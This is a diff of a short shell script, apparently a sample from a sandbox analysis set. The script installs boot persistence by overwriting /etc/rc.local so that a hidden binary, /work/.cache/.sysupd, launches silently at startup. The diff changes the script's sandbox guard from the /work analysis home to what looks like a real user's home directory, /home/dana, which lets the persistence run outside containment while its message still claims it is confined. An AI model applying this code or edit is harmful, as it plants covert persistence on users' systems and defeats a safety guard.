@@ -1,7 +1,7 @@
 #!/bin/sh
 # Persistence in the boot scripts: /etc/rc.local and an init.d script
 # registered with update-rc.d.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 export PATH="$PATH:/usr/sbin:/sbin"
 printf '#!/bin/sh -e\n/work/.cache/.sysupd &\nexit 0\n' > /etc/rc.local 2>/dev/null
 chmod +x /etc/rc.local 2>/dev/null
